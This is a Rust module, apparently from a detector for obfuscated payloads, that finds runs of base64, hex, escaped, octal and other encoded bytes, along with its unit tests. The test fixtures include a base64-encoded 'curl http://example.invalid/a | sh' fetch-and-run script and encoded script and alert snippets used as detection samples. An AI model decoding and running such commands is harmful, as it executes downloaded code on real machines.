//! Runs of characters that are code for bytes, found in one pass.

mod numbers;
mod words;

pub(super) use numbers::{numbers, octals};
pub(super) use words::joined;

use super::written;
use crate::codec::sextet;
use numbers::{data_url, escapes, number_list, octal, octal_run};
use words::{in_equal_lines, is_base32, mixed, varied, word};

/// Fewest characters, or elements, of a run, and whether `chr(…)` is looked for.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) struct Least {
    pub base64: usize,
    pub base32: usize,
    pub hex: usize,
    pub numbers: usize,
    pub codes: bool,
}

/// Words are seldom longer.
const WORDS: usize = 40;
const ESCAPES: usize = 12;

#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Writing {
    Base64,
    Base32,
    Base85,
    Hex,
    /// `\x41`.
    Escapes,
    /// `\101`.
    Octals,
    /// `0x41, 0x42` or `65, 66`.
    Numbers,
    /// The payload of a `data:` address without base64.
    Percent,
    /// `chr(65).chr(66)`.
    Codes,
    /// `\u0041`, `%41`.
    Units,
    /// `&#65;`.
    References,
    /// Lines of a hexadecimal viewer.
    Dump,
}

impl Writing {
    pub fn name(self) -> &'static str {
        match self {
            Writing::Base64 => "base64",
            Writing::Base32 => "base32",
            Writing::Base85 => "base85",
            Writing::Hex => "hex",
            Writing::Escapes => "escapes",
            Writing::Octals => "octal escapes",
            Writing::Numbers => "numbers",
            Writing::Percent => "data url",
            Writing::Codes => "character codes",
            Writing::Units => "unicode escapes",
            Writing::References => "character references",
            Writing::Dump => "hex dump",
        }
    }
}

#[derive(Clone, Debug, PartialEq, Eq)]
pub(super) struct Run {
    pub writing: Writing,
    pub start: usize,
    pub end: usize,
}

pub(super) struct Runs<'t> {
    text: &'t [u8],
    least: Least,
    at: usize,
}

impl<'t> Runs<'t> {
    pub fn new(text: &'t [u8], least: Least) -> Self {
        Runs { text, least, at: 0 }
    }

    fn run(&mut self, writing: Writing, start: usize, end: usize) -> Option<Run> {
        self.at = end;
        Some(Run { writing, start, end })
    }
}

impl Iterator for Runs<'_> {
    type Item = Run;

    fn next(&mut self) -> Option<Run> {
        while self.at < self.text.len() {
            let (text, at) = (self.text, self.at);
            let byte = text[at];
            let next = text.get(at + 1).copied().unwrap_or(0);
            match byte {
                b'\\' if next.eq_ignore_ascii_case(&b'x') => {
                    let end = escapes(text, at);
                    if end - at >= 4 * ESCAPES {
                        return self.run(Writing::Escapes, at, end);
                    }
                    self.at = end.max(at + 2);
                    continue;
                }
                b'\\' if octal(&text[at..]).is_some() => {
                    let end = octal_run(text, at);
                    if end - at >= 4 * ESCAPES {
                        return self.run(Writing::Octals, at, end);
                    }
                    self.at = end;
                    continue;
                }
                b'\\' | b'%' if next == b'u' || byte == b'%' && next.is_ascii_hexdigit() => {
                    if let Some((_, length)) = written::units(&text[at..]) {
                        return self.run(Writing::Units, at, at + length);
                    }
                }
                b'&' if next == b'#' => {
                    if let Some((_, length)) = written::references(&text[at..]) {
                        return self.run(Writing::References, at, at + length);
                    }
                }
                b'c' | b'C' | b'[' if self.least.codes => {
                    if let Some((_, length)) = written::codes(&text[at..]) {
                        return self.run(Writing::Codes, at, at + length);
                    }
                }
                b'd' if text[at..].starts_with(b"data:") => {
                    if let Some((start, end)) = data_url(text, at) {
                        return self.run(Writing::Percent, start, end);
                    }
                    self.at += 5;
                    continue;
                }
                _ => {}
            }
            if sextet(byte).is_none() {
                self.at += 1;
                continue;
            }
            if byte.is_ascii_digit() {
                let (end, count) = number_list(text, at);
                if count >= self.least.numbers {
                    return self.run(Writing::Numbers, at, end);
                }
            }
            let (end, digits, hex) = word(text, at);
            if let Some(writing) = self.least.writing(&text[at..end], digits, hex) {
                return self.run(writing, at, end);
            }
            self.at = end;
        }
        None
    }
}

impl Least {
    /// What a word of so many digits may be.
    fn writing(&self, word: &[u8], digits: usize, hex: bool) -> Option<Writing> {
        if hex && digits >= self.hex && digits.is_multiple_of(2) {
            return Some(Writing::Hex);
        }
        let in_base32 = digits >= self.base32 && word.iter().all(is_base32);
        // Where nobody speaks of it, base64 comes first: its zeros are letters of both.
        if in_base32 && self.base32 < self.base64 {
            return Some(Writing::Base32);
        }
        if digits >= self.base64 && (mixed(word) || in_equal_lines(word) || self.base64 < WORDS && varied(word)) {
            return Some(Writing::Base64);
        }
        in_base32.then_some(Writing::Base32)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str, expected: &[(Writing, &str)]) {
        let least = super::super::calls::Calls::of(text.as_bytes()).least();
        let runs: Vec<(Writing, &str)> =
            Runs::new(text.as_bytes(), least).map(|run| (run.writing, &text[run.start..run.end])).collect();
        assert_eq!(runs, expected, "{text}");
    }

    #[test]
    fn finds_runs_of_each_writing() {
        let blob = "IyEvYmluL3NoCmN1cmwgaHR0cDovL2V4YW1wbGUuaW52YWxpZC9hIHwgc2gK";
        check(&format!("echo {blob} | base64 -d"), &[(Writing::Base64, blob)]);
        let two = format!("{blob}\n  {blob}");
        check(&format!("x = \"\"\"{two}\"\"\""), &[(Writing::Base64, &two)]);
        let hex = "4d5a".repeat(20);
        check(&format!("'{hex}'"), &[(Writing::Hex, &hex)]);
        let escapes = "\\x4d".repeat(20);
        check(&format!("printf '{escapes}'"), &[(Writing::Escapes, &escapes)]);
        let pieces = format!("{}\", \n \"{}\" + '{}", &blob[..20], &blob[20..40], &blob[40..]);
        check(&format!("var a = [\"{pieces}'];"), &[(Writing::Base64, &pieces)]);
        assert_eq!(joined(pieces.as_bytes()), blob.as_bytes());
        let octal = "\\115\\0132".repeat(8);
        check(&format!("printf '{octal}'"), &[(Writing::Octals, &octal)]);
        assert_eq!(octals(octal.as_bytes()).unwrap(), b"MZ".repeat(8));
        let list = vec!["0x4d"; 60].join(", ");
        check(&format!("{{ {list} }}"), &[(Writing::Numbers, &list)]);
        check("<a href=\"data:text/html,%3Cscript%3E\">", &[(Writing::Percent, "%3Cscript%3E")]);
        check("base32 -d <<< NBSWY3DPEB3W64TMMQ======", &[(Writing::Base32, "NBSWY3DPEB3W64TMMQ======")]);
        // What is as long as a word counts where something undoes it.
        check("atob('YWxlcnQoMSk7Ly8=')", &[(Writing::Base64, "YWxlcnQoMSk7Ly8=")]);
        check("fromhex('616c657274283129')", &[(Writing::Hex, "616c657274283129")]);
        check("fromCharCode(97,108,101,114,116,40,49,41)", &[(Writing::Numbers, "97,108,101,114,116,40,49,41")]);
    }

    #[test]
    fn leaves_words_alone() {
        check("/usr/lib/x86_64-linux-gnu/some/long/path/to/a/library/file/libsomething", &[]);
        check("ThisIsAVeryLongIdentifier and then some words that follow it 1, 2, 3", &[]);
        check("da39a3ee5e6b4b0d3255bfef95601890afd80709  file", &[]);
        check("\\x41\\x42", &[]);
        check("x = 'YWxlcnQoMSk7Ly8='", &[]);
        check("100% sure &#169; and \\u00e9", &[]);
    }
}
